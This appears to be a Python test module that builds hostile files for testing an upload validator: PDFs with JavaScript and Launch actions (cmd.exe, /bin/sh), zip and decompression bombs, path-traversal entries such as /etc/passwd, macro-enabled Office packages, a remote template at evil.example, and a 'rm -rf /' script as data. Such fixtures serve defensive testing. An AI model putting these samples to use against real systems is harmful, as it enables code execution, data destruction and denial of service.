"""Documents nobody should have to accept, made anew for each run of the tests."""

from __future__ import annotations

import random
import struct
import zipfile
import zlib
from functools import cache
from typing import TYPE_CHECKING

from .good import documents, office_entries, open_document, package, pdf, pictures
from .hostile import SCRIPT, SVG, Case, packed

if TYPE_CHECKING:
    from collections.abc import Iterator

_PROGRAMS = (
    b"<< /S /JavaScript /JS (app.alert(1)) >>",
    b"<< /S /#4aavaScript /JS (app.alert(1)) >>",
    b"<< /S /Java#53cript /JS 7 0 R >>",
    b"<< /S /J#61#76#61#53#63#72#69#70#74 >>",
    b"<</S/JavaScript/JS<6170702E616C657274>>>",
    b"<< /Names [(a) << /S /JavaScript >>] >>",
    b"<< /OpenAction << /S /JavaScript /JS (this.submitForm()) >> >>",
    b"<< /AA << /O << /S /JavaScript >> >> >>",
    b"<< /S /Launch /F (cmd.exe) >>",
    b"<< /S /#4Caunch /Win << /F (calc.exe) >> >>",
    b"<< /OpenAction << /S /Launch /F (/bin/sh) >> >>",
)


def object_stream(content: bytes, filters: bytes = b"/FlateDecode") -> bytes:
    data = zlib.compress(content)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter %s /Length %d >>\nstream\n%s\nendstream" % (
        filters,
        len(data),
        data,
    )


def _programs() -> Iterator[Case]:
    for number, program in enumerate(_PROGRAMS):
        yield Case(f"program-{number}.pdf", pdf(program))
        yield Case(f"packed-{number}.pdf", pdf(object_stream(b"1 0 " + program)))
    far = object_stream(b"1 0 " + _PROGRAMS[0]).replace(
        b" >>\nstream", b" " * 1_100 + b" >>\nstream"
    )
    yield Case("packed-far.pdf", pdf(far))
    yield Case("unreadable.pdf", pdf(object_stream(b"1 0").replace(b"x\x9c", b"zz")))
    yield Case("padded.pdf", pdf(b" " * 2_000_000 + _PROGRAMS[0]))


def _broken_pdfs() -> Iterator[Case]:
    good = documents()["links.pdf"]
    dice = random.Random(3)  # noqa: S311 - the same bytes in each run
    for part in range(1, 20):
        yield Case(f"cut-{part}.pdf", good[: len(good) * part // 20])
    for number in range(10):
        bent = bytearray(good)
        for _ in range(10):
            bent[dice.randrange(len(bent))] = dice.randrange(256)
        yield Case(f"bent-{number}.pdf", bytes(bent), certain=False)
    loop = b"<< /Type /Pages /Kids [2 0 R 1 0 R] /Count 9 /Parent 2 0 R >>"
    yield Case("loop.pdf", pdf(loop), certain=False)
    yield Case("deep.pdf", pdf(b"[" * 200_000 + b"]" * 200_000), certain=False)
    yield Case("locked.pdf", pdf(b"<< /Encrypt 9 0 R >>"))
    yield Case("locked-2.pdf", pdf(b"<< /#45ncrypt << /Filter /Standard >> >>"))
    bomb = b"<< /Type /ObjStm >>\nstream\n" + packed(70 << 20) + b"\nendstream"
    yield Case("bomb.pdf", pdf(bomb))
    part = object_stream(bytes(8 << 20))
    yield Case("bombs.pdf", pdf(*[part] * 20))
    tiny = b"/ObjStm\nstream\n" + zlib.compress(b"1 0 ") + b"\n"
    yield Case("overlapping.pdf", pdf(tiny * 3_000 + bytes(20 << 20)))
    yield Case("names.pdf", pdf(b"/ObjStm stream\n" * 9_000))
    yield Case("noise.pdf", random.Random(1).randbytes(50_000))  # noqa: S311 - the same bytes in each run
    yield Case("page.pdf", SCRIPT)
    yield Case("page-before.pdf", SCRIPT + good)
    yield Case("page-behind.pdf", good + SCRIPT)
    yield Case("zip-behind.pdf", good + package({"a": b"b"}))
    yield Case("picture.pdf", pictures()["photo.jpg"])
    yield Case("empty.pdf", b"")
    yield Case("only-head.pdf", b"%PDF-1.7")
    yield Case("only-end.pdf", b"%%EOF")
    yield Case("letter.docx.pdf", documents()["letter.docx"])


def with_flag(data: bytes) -> bytes:
    """Every entry marked as encrypted."""
    bent = bytearray(data)
    for sign, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        place = bent.find(sign)
        while place >= 0:
            bent[place + at] |= 1
            place = bent.find(sign, place + 4)
    return bytes(bent)


def claiming(data: bytes, size: int) -> bytes:
    """The first entry claims to unpack to `size`."""
    bent = bytearray(data)
    struct.pack_into("<I", bent, bent.find(b"PK\x01\x02") + 24, size)
    return bytes(bent)


def in_zip64(data: bytes, entries: int) -> bytes:
    """A package whose plain end claims one entry, and whose ZIP64 end claims `entries`."""
    place = data.rfind(b"PK\x05\x06")
    size, start = struct.unpack_from("<II", data, place + 12)
    record = struct.pack(
        "<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, entries, entries, size, start
    )
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, place, 1)
    before = data[:place] + record + locator
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 1, 1, 76, len(before) - 76, 0)
    return before + end


def nested(depth: int) -> bytes:
    """Zeros in a ZIP in a ZIP …, each ten times."""
    data = bytes(4 << 20)
    for level in range(depth):
        data = package({f"{level}-{number}.zip": data for number in range(10)})
    return data


def twice(name: str) -> bytes:
    data = package(office_entries() | {"word/second": b"a"})
    return data.replace(b"word/second", name.encode().ljust(11, b"_")[:11])


def _packages() -> Iterator[Case]:
    for kind in ("docx", "xlsx", "pptx"):
        good = office_entries(kind)
        folder = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}[kind]
        yield Case(f"macros.{kind}", package(good | {f"{folder}/vbaProject.bin": b"m"}))
        yield Case(f"macros-2.{kind}", package(good | {f"{folder}/VBAPROJECT.BIN": b"m"}))
        yield Case(f"active.{kind}", package(good | {f"{folder}/activeX/activeX1.bin": b"m"}))
        enabled = good["[Content_Types].xml"].replace(b"openxmlformats", b"macroEnabled")
        yield Case(f"enabled.{kind}", package(good | {"[Content_Types].xml": enabled}))
        yield Case(f"up.{kind}", package(good | {"../../evil": b"a"}))
        yield Case(f"up-2.{kind}", package(good | {"a/../../../evil": b"a"}))
        yield Case(f"back.{kind}", package(good | {"..\\evil": b"a"}))
        yield Case(f"root.{kind}", package(good | {"/etc/passwd": b"a"}))
        yield Case(f"drive.{kind}", package(good | {"c:/evil": b"a"}))
        yield Case(f"bomb.{kind}", package(good | {"big.xml": bytes(8 << 20)}))
        yield Case(
            f"bombs.{kind}", package(good | {f"{n}.xml": bytes(1 << 20) for n in range(301)})
        )
        yield Case(f"locked.{kind}", with_flag(package(good)))
        yield Case(f"zip64.{kind}", in_zip64(package(good), len(good)))
        yield Case(f"claim.{kind}", claiming(package(good), 2**32 - 2))
        yield Case(f"no-list.{kind}", package({"main.xml": b"a"}))
        yield Case(f"long-list.{kind}", package(good | {"[Content_Types].xml": bytes(4 << 20)}))
        yield Case(f"plain-zip.{kind}", package({"readme.txt": b"a"}))
        yield Case(f"before.{kind}", SCRIPT + package(good))
        yield Case(f"behind.{kind}", package(good) + SCRIPT)
        yield Case(f"old.{kind}", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(4_096))
        whole = package(good)
        for part in (0.1, 0.5, 0.95):
            yield Case(f"cut-{part}.{kind}", whole[: int(len(whole) * part)])
    yield Case("swapped.docx", documents()["table.xlsx"])
    yield Case(
        "entities.docx",
        package(
            office_entries()
            | {
                "[Content_Types].xml": b"<!DOCTYPE a [<!ENTITY a 'b'>]>"
                b"wordprocessingml.document.main+xml"
            }
        ),
    )
    away = (
        b'<R Type="x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>'
    )
    yield Case("template.docx", package(office_entries() | {"word/_rels/settings.xml.rels": away}))
    yield Case("nested.docx", nested(3))
    yield Case("entries.docx", package(office_entries() | {f"e{n}": b"" for n in range(5_001)}))
    yield Case("twice.docx", twice("main.xml"), certain=False)
    listed = bytearray(package(office_entries()))
    struct.pack_into("<I", listed, listed.rfind(b"PK\x05\x06") + 12, 2**31)
    yield Case("long-list-claimed.docx", bytes(listed))
    good = open_document()
    yield Case(
        "macros.odt", package(good | {"Basic/Standard/Module1.xml": b"m"}, zipfile.ZIP_STORED)
    )
    yield Case("scripts.odt", package(good | {"Scripts/python/a.py": b"m"}, zipfile.ZIP_STORED))
    yield Case("kind.odt", package({"mimetype": b"text/html", "content.xml": b"a"}))
    yield Case("order.odt", package({"content.xml": b"a", "mimetype": good["mimetype"]}))


def _texts() -> Iterator[Case]:
    for number, data in enumerate(
        (
            SCRIPT,
            SVG,
            b"\xef\xbb\xbf  <html><script>1</script>",
            b"<?xml version='1.0'?><a/>",
            SCRIPT.decode().encode("utf-16"),
            "<!-- -->\u200f<script>".encode(),
            b"text\0with a zero",
            "رسالة".encode("windows-1256"),
            b"\xff\xfe\x00",
            pdf(),
            package({"a": b"b"}),
            b"MZ\x90\0",
            b"#!/bin/sh\nrm -rf /",
            b"\x7fELF",
            pictures()["still.gif"],
            b"",
        )
    ):
        yield Case(f"text-{number}.txt", data)
        yield Case(f"table-{number}.csv", data)
        yield Case(f"captions-{number}.vtt", data)


def _films() -> Iterator[Case]:
    for name in ("mp4", "webm"):
        yield Case(f"page.{name}", SCRIPT)
        yield Case(f"picture.{name}", pictures()["photo.avif"])
        yield Case(f"short.{name}", b"\x1a\x45")
        yield Case(f"empty.{name}", b"")
    yield Case("matroska.webm", b"\x1a\x45\xdf\xa3\x42\x82\x88matroska" + bytes(64))
    yield Case("turn\u202efdp.txt", b"text")
    yield Case("drawing.svg", SVG)
    for name in ("html", "exe", "docm", "js", "zip", "xls", ""):
        yield Case(f"kind.{name}", b"text")


@cache
def hostile_documents() -> tuple[Case, ...]:
    makers = (_programs, _broken_pdfs, _packages, _texts, _films)
    return tuple(case for make in makers for case in make())
